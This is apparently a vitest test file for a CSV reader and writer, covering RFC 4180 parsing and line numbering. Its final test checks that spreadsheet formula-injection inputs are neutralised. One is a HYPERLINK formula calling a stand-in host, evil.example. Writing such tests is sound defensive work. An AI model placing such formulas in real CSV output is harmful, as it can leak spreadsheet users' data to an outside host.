import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { CsvInputError, readCsv, writeCsv } from './csv';

async function read(chunks: string[] | Readable) {
  const out = [];
  for await (const r of readCsv(Array.isArray(chunks) ? Readable.from(chunks) : chunks)) out.push(r);
  return out;
}

describe('readCsv', () => {
  it('reads quoted cells with commas, doubled quotes and line breaks (RFC 4180), trimmed', async () => {
    expect(await read(['a,"b, c","say ""hi""", d \n', '"multi\nline",x\r\n'])).toEqual([
      { line: 1, raw: 'a,"b, c","say ""hi""", d ', cells: ['a', 'b, c', 'say "hi"', 'd'] },
      { line: 2, raw: '"multi\nline",x', cells: ['multi\nline', 'x'] },
    ]);
  });

  it('numbers records by the line they start on, across blank lines, a BOM and chunk boundaries', async () => {
    const text = '\uFEFFh1,h2\r\n\r\n  \r\nA,"one\r\ntwo\r\nthree"\r\nB,2\r\n\r\n';
    const chunks = [text.slice(0, 9), text.slice(9, 23), text.slice(23)];
    expect((await read(chunks)).map((r) => [r.line, 'cells' in r ? r.cells : r.reason])).toEqual([
      [1, ['h1', 'h2']],
      [4, ['A', 'one\r\ntwo\r\nthree']],
      [7, ['B', '2']],
    ]);
  });

  it('keeps a quote inside an unquoted cell, and any number of cells', async () => {
    expect((await read(['h\n12" rim,x,y\n'])).map((r) => 'cells' in r && r.cells)).toEqual([
      ['h'],
      ['12" rim', 'x', 'y'],
    ]);
  });

  it('answers a quote left open as a fault at the line it opens, after the records before it', async () => {
    expect(await read(['h1,h2\nA,1\n\nB,"open\nC,3\n'])).toEqual([
      { line: 1, raw: 'h1,h2', cells: ['h1', 'h2'] },
      { line: 2, raw: 'A,1', cells: ['A', '1'] },
      { line: 4, raw: 'B,"open\nC,3', reason: 'A quote is not closed' },
    ]);
  });

  it('throws when the input breaks off', async () => {
    const input = new Readable({ read() {} });
    input.push('h1,h2\nA,1\n');
    setTimeout(() => input.destroy(new Error('connection reset')), 10);
    await expect(read(input)).rejects.toBeInstanceOf(CsvInputError);
  });
});

describe('writeCsv', () => {
  it('quotes cells per RFC 4180 and writes a cell that starts like a formula as text', () => {
    expect(
      writeCsv([
        ['a,b', 'say "hi"', 'two\nlines', 3, -100, '-100.00', null],
        ['=HYPERLINK("http://evil.example/?x","x")', '+1', '@SUM(A1)', '\tcmd'],
      ]),
    ).toBe(
      `"a,b","say ""hi""","two\nlines",3,-100,-100.00,\n"'=HYPERLINK(""http://evil.example/?x"",""x"")",'+1,'@SUM(A1),'\tcmd\n`,
    );
  });
});
